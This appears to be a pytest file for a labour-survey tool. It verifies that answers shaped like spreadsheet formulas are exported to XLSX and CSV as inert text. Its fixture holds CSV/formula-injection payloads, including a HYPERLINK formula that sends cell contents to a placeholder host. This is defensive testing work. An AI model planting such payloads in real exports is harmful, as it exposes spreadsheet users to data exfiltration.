"""An officer's answer that begins like a formula reaches the statistician's spreadsheet as the
text typed, never as a live formula: laptop `labour-survey export` and `labour-survey-server export`
(issue 16). Read back as a reader would: openpyxl, pandas, and the CSV's bytes."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd

from sync import client
from tests import factories as fx
from tests.exports.test_command import run
from tests.sync.conftest import Server
from tests.sync.test_sync import laptop

HYPERLINK = '=HYPERLINK("http://x?"&A2,"x")'
# Each begins with a character a spreadsheet reads as the start of a formula (OWASP's list; a
# leading tab or carriage return never reaches an export: answers are stored stripped).
TYPED = {"full_name": [HYPERLINK, "+Lò Văn Sơn", "-Hà Thị Nga", "@Ngô Xuân Quý", "=Bùi Văn Dũng"],
         "job": ["=1+2", "-2+3"]}


def evil_household() -> dict[str, Any]:
    rec = fx.household(household_code="HT-0666")
    rec["uuid"] = "0f5b1c2e-6666-4a3b-9c4d-000000000666"
    for i, member in enumerate(rec["members"]):
        member["full_name"] = TYPED["full_name"][i]
    rec["members"][0]["job"] = TYPED["job"][0]
    rec["members"][3]["job"] = TYPED["job"][1]
    return rec


def assert_safe(folder: Path) -> None:
    names = TYPED["full_name"]
    # XLSX: every typed name is a text cell holding exactly what was typed; no cell anywhere is a formula.
    for book in ("members.xlsx", "households.xlsx"):
        ws = openpyxl.load_workbook(folder / book).active
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (book, cell.coordinate, cell.value)
    ws = openpyxl.load_workbook(folder / "members.xlsx").active
    header = [c.value for c in ws[1]]
    name_col, job_col = header.index("full_name"), header.index("job")
    cells = {row[name_col].value: row[name_col] for row in ws.iter_rows(min_row=2)}
    for name in names:
        assert name in cells and cells[name].data_type == "s", name
    jobs = [row[job_col].value for row in ws.iter_rows(min_row=2)]
    assert set(TYPED["job"]) <= set(jobs)
    frame = pd.read_excel(folder / "members.xlsx", dtype=object)
    assert set(names) <= set(frame["full_name"])
    # Numbers stay numbers: the household's member numbers and coded answers are numeric cells.
    assert all(isinstance(v, int) for v in frame["sex"])
    # CSV: a text answer that begins like a formula is prefixed with a single quote, and nothing else changes.
    raw = (folder / "members.csv").read_bytes().decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://x?""&A2,""x"")"' in raw
    for name in names[1:]:
        assert f",'{name}," in raw
    for row in csv.reader(io.StringIO(raw)):
        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row), row
    csv_frame = pd.read_csv(folder / "members.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert {f"'{name}" for name in names} <= set(csv_frame["full_name"])
    assert "'-2+3" in set(csv_frame["job"])
    assert all(s in ("1", "2") for s in csv_frame["sex"])  # codes are not prefixed


def test_laptop_export_writes_formulas_as_the_text_typed(tmp_path: Path) -> None:
    data = tmp_path / "data"
    src = tmp_path / "village.jsonl"
    src.write_text(json.dumps(evil_household(), ensure_ascii=False), encoding="utf-8")
    r = run(data, "households", "import", str(src))
    assert r.returncode == 0, r.stderr
    out = tmp_path / "plain"
    r = run(data, "export", "--plain", "--format", "csv", "--format", "xlsx", "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert_safe(out)


def test_server_export_writes_formulas_as_the_text_typed(tmp_path: Path) -> None:
    server = Server(f"sqlite:///{tmp_path / 'server.sqlite'}", tmp_path)
    server.start()
    try:
        store = laptop(tmp_path, server)
        saved = store.save(copy.deepcopy(evil_household()), actor="lan")
        store.complete(saved.household.uuid, actor="lan", accept_warnings=True)
        client.SyncClient(store).sync()
        out = tmp_path / "province"
        r = server.admin("export", "-o", str(out), "--format", "csv", "--format", "xlsx")
        assert r.returncode == 0, r.stderr
        assert "1 household(s) exported" in r.stdout
        assert_safe(out)
    finally:
        server.stop()
